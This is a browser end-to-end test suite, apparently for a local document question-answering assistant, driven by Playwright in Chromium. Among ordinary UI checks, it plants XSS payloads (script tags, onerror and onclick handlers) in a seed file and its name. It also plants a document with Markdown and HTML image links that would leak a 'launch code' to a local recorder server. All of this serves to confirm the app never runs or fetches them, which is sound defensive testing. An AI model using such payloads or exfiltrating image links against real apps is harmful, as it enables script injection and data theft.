"""End to end in Debian's Chromium, driven by Playwright.

The `real` test starts `python app.py` with the real models (pytest -m browser -s; the first run
converts the model once: minutes); the others serve the app in-process with fakes (seconds).
Screenshots of the main states go to artifacts/ (git-ignored), to look at after a run.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from fakes import (
    HashingEmbedder,
    ScriptedGenerator,
    SilentGenerator,
    passage_number,
    seeded_config,
)

from assistant import ui
from assistant.config import Config
from assistant.rag import Assistant
from assistant.server import launch

pytestmark = pytest.mark.browser

ROOT = Path(__file__).parent.parent
CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = ROOT / "artifacts"
QUESTION = "By what date is the rare earth deal meant to be finalised?"
EXAMPLE = "What does Washington expect from Moscow and Kiev?"  # the article's title asks it
START_TIMEOUT_S = 900  # first start: build the index and convert the model once
ANSWER_TIMEOUT_S = 600
EVIL = (
    "<script>alert('pwned')</script> Vault notes\n\n"
    "The vault <img src=x onerror=alert(2)> launch code is 4471."
)

if not CHROMIUM.exists() and not os.environ.get("CI"):
    pytest.skip(
        "/usr/bin/chromium is missing: install it with `make browser` "
        "(apt-get install chromium chromium-driver); in CI this test always runs",
        allow_module_level=True,
    )


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _wait_until_serving(proc: subprocess.Popen, url: str, log: Path) -> float:
    started = time.monotonic()
    while time.monotonic() - started < START_TIMEOUT_S:
        if proc.poll() is not None:
            pytest.fail(f"app.py exited with {proc.returncode}:\n{log.read_text()[-3000:]}")
        try:
            with urllib.request.urlopen(url, timeout=5) as response:
                if response.status == 200:
                    return time.monotonic() - started
        except OSError:
            pass
        time.sleep(1)
    pytest.fail(
        f"app.py did not serve {url} within {START_TIMEOUT_S} s:\n{log.read_text()[-3000:]}"
    )


@pytest.fixture()
def server(tmp_path):
    """`python app.py` on a free loopback port over a copy of seeds/; always stopped after."""
    seeds = tmp_path / "seeds"
    shutil.copytree(ROOT / "seeds", seeds)
    (seeds / "vault <i onclick=alert(3)>notes.txt").write_text(EVIL, encoding="utf-8")
    port = _free_port()
    env = {
        **os.environ,
        "ASSISTANT_SEEDS_DIR": str(seeds),
        "ASSISTANT_INDEX_DIR": str(tmp_path / "index"),
        "GRADIO_ANALYTICS_ENABLED": "False",
    }
    for name in (
        "ASSISTANT_HOST",
        "ASSISTANT_PORT",
        "ASSISTANT_USERNAME",
        "ASSISTANT_PASSWORD",
        "ASSISTANT_AUTH_FILE",
    ):
        env.pop(name, None)
    log = tmp_path / "app.log"
    with open(log, "wb") as out:
        proc = subprocess.Popen(
            [sys.executable, str(ROOT / "app.py"), "--host", "127.0.0.1", "--port", str(port)],
            cwd=tmp_path,
            env=env,
            stdout=out,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
    try:
        url = f"http://127.0.0.1:{port}/"
        seconds = _wait_until_serving(proc, url, log)
        print(f"\napp.py served after {seconds:.1f} s")
        yield url, log
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGTERM)
            try:
                proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                os.killpg(proc.pid, signal.SIGKILL)
                proc.wait(timeout=20)


CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--disable-gpu",
]


@pytest.mark.real
def test_question_streams_a_cited_answer_in_chromium(server):
    from playwright.sync_api import sync_playwright

    url, log = server
    ARTIFACTS.mkdir(exist_ok=True)
    dialogs: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        page = None
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 1000})
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(url)
            page.wait_for_selector("#question textarea", timeout=60_000)
            # Example questions from the documents' titles on first open.
            page.get_by_text(EXAMPLE).first.wait_for(timeout=30_000)

            page.fill("#question textarea", QUESTION)
            page.click("#send")
            # The evidence shows first, marked as not yet an answer, while the model reads it;
            # then the final answer (with its timings) replaces it.
            bot = page.locator("#chat .bot").last
            bot.wait_for(timeout=ANSWER_TIMEOUT_S * 1000)
            page.wait_for_selector("#chat .evidence", timeout=ANSWER_TIMEOUT_S * 1000)
            assert page.locator("#chat .timings").count() == 0  # the answer is not complete yet
            assert "Evidence found" in page.locator("#chat .evidence").last.inner_text()
            page.wait_for_selector("#chat .timings", timeout=ANSWER_TIMEOUT_S * 1000)
            assert page.locator("#chat .evidence").count() == 0
            page.screenshot(path=str(ARTIFACTS / "browser-answer.png"), full_page=True)

            answer = page.locator("#chat .bot").last.inner_text()
            assert "April 26" in answer or "26 April" in answer, answer
            markers = page.locator("#chat a[href^='#src-']")
            assert markers.count() >= 1, answer
            target = markers.first.get_attribute("href")[1:]
            card = page.locator(f"#sources #{target}")
            assert card.count() == 1
            assert "finalize the deal by April 26" in page.locator("#sources").inner_text()
            assert page.locator("#sources mark").count() >= 1

            markers.first.click()
            page.wait_for_selector(f"#sources #{target}.flash", timeout=5_000)

            page.get_by_role("tab", name="Documents").click()
            table = page.locator("#documents")
            table.get_by_text("vault <i onclick=alert(3)>notes.txt").wait_for(timeout=10_000)
            assert page.locator("#documents i").count() == 0
            page.screenshot(path=str(ARTIFACTS / "browser-documents.png"), full_page=True)
        except BaseException:
            if page is not None:
                page.screenshot(path=str(ARTIFACTS / "browser-failure.png"), full_page=True)
            raise
        finally:
            browser.close()
    assert dialogs == [], f"document HTML ran as script: {dialogs}"
    assert "Traceback" not in log.read_text()


# --- with fakes: nothing leaves this machine ------------------------------------------------


class _Recorder(BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_GET(self):  # noqa: N802 - http.server's name
        self.seen.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture()
def recorder():
    """A tiny HTTP server on 127.0.0.1 (another origin than the app) that records each request."""
    _Recorder.seen = []
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}", _Recorder.seen
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_answer_and_passage_never_load_remote_resources(tmp_path, recorder):
    """A planted document asks for a Markdown image and an <img>; the answer repeats them."""
    from playwright.sync_api import sync_playwright

    base, seen = recorder
    claim = (
        f"The vault launch code is 4471 ![p]({base}/md.png?data=4471) "
        f"<img src={base}/raw.png?data=4471> see [click]({base}/link) {base}/bare"
    )
    cfg = seeded_config(tmp_path)
    (cfg.seeds_dir / "vault.txt").write_text(f"Vault notes\n\n{claim}.\n", encoding="utf-8")
    # The test is about rendering, not about the decision: the answer always goes through.
    cfg = Config(**{**cfg.__dict__, "port": _free_port(), "answer_threshold": 0.0})
    # A bare pointer: the planted sentence itself becomes the answer, word for word.
    generator = ScriptedGenerator(lambda m: f"[{passage_number(m, '4471')}]")
    assistant = Assistant(cfg, HashingEmbedder(), generator)
    assistant.rebuild()
    demo = ui.build_app(assistant, cfg)
    launch(demo, cfg, None, prevent_thread_lock=True, quiet=True)
    blocked: list[str] = []
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
            try:
                page = browser.new_page()
                page.on(
                    "console",
                    lambda m: "Content Security Policy" in m.text and blocked.append(m.text),
                )
                page.goto(f"http://127.0.0.1:{cfg.port}/")
                page.fill("#question textarea", "What is the vault launch code?")
                page.click("#send")
                page.wait_for_selector("#chat .timings", timeout=30_000)
                # The chat and the Sources panel come in one update but render one after the
                # other: wait for the panel's passage cards too before reading it.
                page.wait_for_selector("#sources .src-card", timeout=30_000)
                page.wait_for_timeout(500)  # time for any image request to go out
                answer = page.locator("#chat .bot").last.inner_text()
                sources = page.locator("#sources").inner_text()
                assert page.locator("#chat a[href^='#src-']").count() >= 1  # our [n] links work
                counts = [
                    page.locator(f"{where} {tag}").count()
                    for where in ("#chat", "#sources")
                    for tag in ("img[src*='127.0.0.1']", "a[href^='http']")
                ]
            finally:
                browser.close()
    finally:
        demo.close()
    assert seen == [], f"the page fetched {seen}"
    for text in (answer, sources):
        assert f"![p]({base}/md.png?data=4471)" in text and f"<img src={base}/raw.png" in text
    assert counts == [0, 0, 0, 0]
    assert blocked == [], f"the page needed something its policy forbids: {blocked}"


# --- the window with fakes: one app and one Chromium for these tests -----------------------

DEAL_QUESTION = "By what date is the rare earth deal meant to be finalised?"
EXAMPLE = "What does Washington expect from Moscow and Kiev?"  # the article's title asks it


def _deal_reply(messages) -> str:
    if "Follow-up" in messages[-1]["content"]:
        return "Who hinted at the rare earth deal?"
    return f"The goal is to finalize the deal by April 26 [{passage_number(messages, 'April 26')}]."


@pytest.fixture(scope="module")
def window(tmp_path_factory):
    """The app served in-process with a hashing embedder and a scripted model that is silent for
    a few seconds before it answers (as a real one reading), and one headless Chromium."""
    from playwright.sync_api import sync_playwright

    tmp = tmp_path_factory.mktemp("window")
    cfg = seeded_config(tmp, port=_free_port())
    assistant = Assistant(cfg, HashingEmbedder(), SilentGenerator(_deal_reply, 2.5, 0.05))
    demo = ui.build_app(assistant, cfg)
    launch(demo, cfg, None, prevent_thread_lock=True, quiet=True)
    ARTIFACTS.mkdir(exist_ok=True)
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
            try:
                yield browser, f"http://127.0.0.1:{cfg.port}/", cfg
            finally:
                browser.close()
    finally:
        demo.close()


@pytest.fixture()
def page(window, request):
    """A fresh page at 1400x1000 that may use the clipboard; a screenshot if the test fails."""
    browser, url, _ = window
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=url.rstrip("/"))
    page = context.new_page()
    page.goto(url)
    page.wait_for_selector("#question textarea", timeout=60_000)
    yield page
    report = getattr(request.node, "report_call", None)  # set by conftest's hook
    if report is not None and report.failed:
        page.screenshot(path=str(ARTIFACTS / f"{request.node.name}-failure.png"), full_page=True)
    context.close()


def ask(page, question: str = DEAL_QUESTION) -> None:
    page.fill("#question textarea", question)
    page.click("#send")


def wait_for_answer(page, turn: int = 1) -> None:
    """Until answer `turn` is final (its timings are folded under it)."""
    page.wait_for_selector(f"#chat .bot >> nth={turn - 1} >> details.timings", timeout=30_000)


def test_progress_is_live_send_waits_and_a_second_question_queues(page, window):
    browser, url, _ = window
    other = browser.new_context(viewport={"width": 1400, "height": 1000}).new_page()
    other.goto(url)
    other.wait_for_selector("#question textarea", timeout=60_000)
    ask(page)
    stage = page.locator("#chat .progress .stage").last
    page.wait_for_function(
        "() => [...document.querySelectorAll('#chat .progress .stage')]"
        ".some(e => e.textContent.startsWith('Reading'))",
        timeout=15_000,
    )
    assert page.locator("#send").is_disabled() and page.locator("#stop").is_enabled()
    assert (
        page.locator("#chat .progress .pulse").last.evaluate(
            "e => getComputedStyle(e).animationName"
        )
        == "pulse"
    )
    first = page.locator("#chat .progress .elapsed").last.inner_text()
    page.wait_for_function(
        f"() => {{ const e = [...document.querySelectorAll('#chat .progress .elapsed')].pop();"
        f" return e && e.textContent !== {first!r}; }}",
        timeout=5_000,
    )
    assert "sentence" in stage.inner_text() and "passage" in stage.inner_text()
    page.screenshot(path=str(ARTIFACTS / "window-progress.png"))
    # Another person asks meanwhile: the model answers one at a time, and the bubble says so.
    ask(other, "When will the rare earth deal be finalised?")
    other.locator("#chat .progress .stage").get_by_text(
        "Queued: 1 question ahead of yours"
    ).wait_for(timeout=10_000)
    other.screenshot(path=str(ARTIFACTS / "window-queued.png"))
    wait_for_answer(page)
    assert page.locator("#chat .progress").count() == 0
    assert page.locator("#send").is_enabled() and page.locator("#stop").is_disabled()
    timings = page.locator("#chat details.timings").last
    assert not timings.evaluate("e => e.open") and "total" in timings.text_content()
    page.screenshot(path=str(ARTIFACTS / "window-answer.png"))
    wait_for_answer(other)  # its turn came after the first answer
    other.context.close()


def test_answer_markers_are_links_copy_gives_text_and_thumbs_mark_it(page, window):
    ask(page)
    wait_for_answer(page)
    # [n] looks like a link (the theme's link colour, underlined) and shows its passage.
    marker = page.locator("#chat a.answer-marker").last
    style = marker.evaluate(
        "e => [getComputedStyle(e).textDecorationLine, getComputedStyle(e).color,"
        " getComputedStyle(e.closest('.answer')).color]"
    )
    assert style[0] == "underline" and style[1] != style[2], style
    target = marker.get_attribute("href")[1:]
    marker.click()
    page.wait_for_selector(f"#sources #{target}.flash", timeout=5_000)
    page.screenshot(path=str(ARTIFACTS / "window-marker-clicked.png"))
    title = page.locator("#sources .for-answer").inner_text()
    assert title == f"For answer 1: “{DEAL_QUESTION}”" or DEAL_QUESTION in title, title
    page.locator("#chat a.copy").last.click()
    page.wait_for_function("() => document.querySelector('#chat a.copy').textContent === 'Copied'")
    copied = page.evaluate("navigator.clipboard.readText()")
    body, sources = copied.split("\n\nSources:\n")
    assert body.startswith("The goal is to finalize the deal by April 26 [")
    assert sources.startswith("- [") and "US Secretary of State" in sources
    assert "file date" in sources and "<" not in copied
    assert page.locator("#chat .copy-text").last.is_hidden()
    # The thumbs mark it helpful or wrong: a line of the feedback eval set.
    page.get_by_role("button", name="Like").last.click()
    page.wait_for_function(
        "() => document.querySelector('#status').innerText.startsWith('Marked answer 1 helpful')"
    )
    _, _, cfg = window
    (line,) = (cfg.feedback_dir / "questions.jsonl").read_text("utf-8").splitlines()
    assert json.loads(line)["verdict"] == "helpful"
    page.get_by_role("button", name="Like").last.click()  # and unmarks it
    page.wait_for_function(
        "() => document.querySelector('#status').innerText.startsWith('Unmarked answer 1')"
    )


def test_a_follow_up_says_how_it_was_read(page):
    ask(page)
    wait_for_answer(page)
    ask(page, "And who hinted at it?")
    wait_for_answer(page, turn=2)
    read = page.locator("#chat .bot >> nth=1 >> .read-as")
    assert read.inner_text() == "Read as: Who hinted at the rare earth deal?"
    assert page.locator("#chat .bot >> nth=0 >> .read-as").count() == 0


CONTRAST = """e => {
  const rgb = c => c.match(/[\\d.]+/g).slice(0, 3).map(Number);
  const lum = c => {
    const [r, g, b] = rgb(c).map(v => { v /= 255;
      return v <= 0.03928 ? v / 12.92 : Math.pow((v + 0.055) / 1.055, 2.4); });
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const s = getComputedStyle(e);
  const [a, b] = [lum(s.color), lum(s.backgroundColor)].sort((x, y) => y - x);
  return (a + 0.05) / (b + 0.05);
}"""


def mark_contrasts(page) -> list[float]:
    """Contrast ratios (WCAG) of the highlighted sentences' text against their highlight."""
    return [
        page.locator(f"#sources {sel}").first.evaluate(CONTRAST)
        for sel in ("mark:not(.context)", "mark.context")
    ]


def test_the_theme_switch_and_the_system_setting_give_readable_highlights(page, window):
    browser, url, _ = window
    ask(page)
    wait_for_answer(page)
    page.wait_for_selector("#sources mark.context")
    assert not page.evaluate("document.body.classList.contains('dark')")
    assert min(mark_contrasts(page)) >= 4.5, mark_contrasts(page)
    switch = page.locator("#theme-switch")
    assert "Dark" in switch.inner_text()
    switch.click()
    assert page.evaluate("document.body.classList.contains('dark')")
    assert "Light" in switch.inner_text()
    assert min(mark_contrasts(page)) >= 4.5, mark_contrasts(page)
    page.screenshot(path=str(ARTIFACTS / "window-dark.png"))
    page.reload()  # the choice is remembered
    page.wait_for_selector("#question textarea")
    page.wait_for_function("document.body.classList.contains('dark')")
    page.locator("#theme-switch").click()  # back to light for the other tests
    # A dark system setting gives the dark theme, with the same readable highlights.
    context = browser.new_context(color_scheme="dark", viewport={"width": 1400, "height": 1000})
    try:
        dark = context.new_page()
        dark.goto(url)
        dark.wait_for_selector("#question textarea", timeout=60_000)
        # The window's load script labels the switch after the page has drawn: wait for it.
        dark.wait_for_function(
            "document.getElementById('theme-switch').textContent.includes('Light')"
        )
        assert dark.evaluate("document.body.classList.contains('dark')")
        ask(dark)
        wait_for_answer(dark)
        dark.wait_for_selector("#sources mark.context")
        assert min(mark_contrasts(dark)) >= 4.5, mark_contrasts(dark)
    finally:
        context.close()


def test_dropped_files_are_indexed_at_once_and_removal_asks_first(page, tmp_path):
    storm = tmp_path / "storm-warning.md"
    storm.write_text(
        "# Storm warning for Brittany\n\nFerries between Roscoff and Plymouth were cancelled.",
        encoding="utf-8",
    )
    page.get_by_role("tab", name="Documents").click()
    page.locator("#upload input[type=file]").set_input_files(str(storm))
    status = page.locator("#doc-status textarea")
    page.wait_for_function(
        "() => document.querySelector('#doc-status textarea').value.includes('Indexed:')",
        timeout=30_000,
    )
    assert status.input_value().splitlines()[0] == "Indexed: storm-warning.md"
    assert "2 documents, " in status.input_value()
    page.locator("#documents").get_by_text("Storm warning for Brittany").wait_for()
    page.screenshot(path=str(ARTIFACTS / "window-documents.png"), full_page=True)

    # Removing asks first, naming the file; Cancel keeps it.
    page.locator("#remove-select input").click()
    page.keyboard.type("storm-warning")
    page.keyboard.press("Enter")
    page.keyboard.press("Escape")  # close the list of choices
    page.locator("#remove").click()
    confirm = page.locator("#confirm-text")
    confirm.wait_for()
    assert "Delete storm-warning.md from the documents folder?" in confirm.inner_text()
    page.screenshot(path=str(ARTIFACTS / "window-remove-confirm.png"), full_page=True)
    page.locator("#cancel-delete").click()
    confirm.wait_for(state="hidden")
    assert "storm-warning.md" in page.locator("#documents").inner_text()
    page.locator("#remove").click()
    page.locator("#confirm-delete").click()
    page.wait_for_function(
        "() => document.querySelector('#doc-status textarea').value.startsWith('Deleted')",
        timeout=30_000,
    )
    assert "1 document, " in status.input_value()
    assert "storm-warning.md" not in page.locator("#documents").inner_text()


def test_show_in_document_opens_the_whole_document_at_the_passage(page):
    ask(page)
    wait_for_answer(page)
    page.wait_for_selector("#sources .src-card")
    page.locator("#sources .src-card").first.get_by_text("Show in document").click()
    view = page.locator("#doc-view-box").first  # Gradio repeats a group's id inside it
    view.wait_for()
    passage = page.locator("#doc-passage")
    passage.wait_for()
    page.wait_for_timeout(300)  # the scroll to the passage
    assert passage.locator("mark").count() >= 1
    text = page.locator("#doc-view").inner_text()
    assert text.count("Rubio") >= 3 and "finalize the deal by April 26" in text  # all of it
    box, where = view.bounding_box(), passage.bounding_box()
    assert box["y"] <= where["y"] < box["y"] + box["height"], (box, where)  # in sight
    page.screenshot(path=str(ARTIFACTS / "window-document.png"))
    page.keyboard.press("Escape")
    view.wait_for(state="hidden")


def test_on_a_narrow_screen_the_sources_sit_between_the_chat_and_the_question(page):
    page.set_viewport_size({"width": 420, "height": 860})
    ask(page)
    wait_for_answer(page)
    page.wait_for_selector("#sources .src-card")
    box = {s: page.locator(s).bounding_box() for s in ("#chat", "#sources", "#question")}
    assert box["#chat"]["y"] < box["#sources"]["y"] < box["#question"]["y"], box
    # The evidence starts within a screen of the conversation's end.
    assert box["#sources"]["y"] - (box["#chat"]["y"] + box["#chat"]["height"]) < 200, box
    page.screenshot(path=str(ARTIFACTS / "window-narrow.png"), full_page=True)
    marker = page.locator("#chat a.answer-marker").last
    target = marker.get_attribute("href")[1:]
    marker.click()
    card = page.locator(f"#sources #{target}.flash")
    card.wait_for()
    page.wait_for_timeout(600)  # the smooth scroll
    top = card.evaluate("e => e.getBoundingClientRect().top")
    assert 0 <= top < 860, top  # scrolled into the screen
    page.locator("#theme-switch").click()  # the dark theme at this width too
    page.screenshot(path=str(ARTIFACTS / "window-narrow-dark.png"), full_page=True)
    assert min(mark_contrasts(page)) >= 4.5
    page.locator("#theme-switch").click()


def test_a_file_dropped_into_seeds_appears_in_the_open_documents_tab(window, tmp_path):
    """The seeds watcher indexes a new file; the open page lists it without a reload."""
    from assistant.watch import SeedsWatcher

    cfg = seeded_config(tmp_path, port=_free_port(), watch_delay_s=0.2)
    assistant = Assistant(cfg, HashingEmbedder(), ScriptedGenerator("not found"))
    watcher = SeedsWatcher(assistant)
    demo = ui.build_app(assistant, cfg, watch_status=lambda: watcher.status)
    launch(demo, cfg, None, prevent_thread_lock=True, quiet=True)
    watcher.start()
    context = window[0].new_context(viewport={"width": 1400, "height": 1000})
    try:
        page = context.new_page()
        page.goto(f"http://127.0.0.1:{cfg.port}/")
        page.get_by_role("tab", name="Documents").click()
        documents = page.locator("#documents")
        documents.get_by_text("Rubio").first.wait_for(timeout=30_000)
        assert "Ferry strike" not in documents.inner_text()
        (cfg.seeds_dir / "ferry-strike.md").write_text(
            "# Ferry strike in Calais\n\nNo ferries will sail on Monday.", encoding="utf-8"
        )
        documents.get_by_text("Ferry strike in Calais").wait_for(timeout=30_000)
        assert "Index updated" in page.locator("#watch-status").inner_text()
    finally:
        context.close()
        watcher.stop()
        demo.close()
